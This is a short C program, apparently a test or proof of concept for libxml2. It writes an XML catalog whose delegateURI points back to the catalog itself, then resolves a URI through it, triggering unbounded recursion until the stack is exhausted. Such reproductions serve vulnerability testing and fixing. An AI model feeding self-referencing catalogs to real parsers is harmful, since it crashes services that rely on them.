/* A catalog whose delegateURI names the catalog itself is followed until the stack ends. */
#include "session.h"
#include <libxml/catalog.h>
#include <libxml/parser.h>

static void quiet(void *user, xmlErrorPtr error) { (void)user, (void)error; }

void prepare(void) { xmlInitParser(); }

void hole(void)
{
    char text[256];
    const char *path = file_of("", 0);
    int length = snprintf(text, sizeof text,
                          "<catalog xmlns=\"urn:oasis:names:tc:entity:xmlns:xml:catalog\">"
                          "<delegateURI uriStartString=\"/foo\" catalog=\"%s\"/></catalog>",
                          path);
    int file = open(path, O_WRONLY);
    if (write(file, text, (size_t)length) != length)
        abort();
    xmlSetStructuredErrorFunc(NULL, quiet);
    xmlCatalogPtr catalog = xmlLoadACatalog(path);
    xmlChar *found = xmlACatalogResolveURI(catalog, BAD_CAST "/foo.ent");
    say("%s", found ? "resolved" : "not resolved");
}
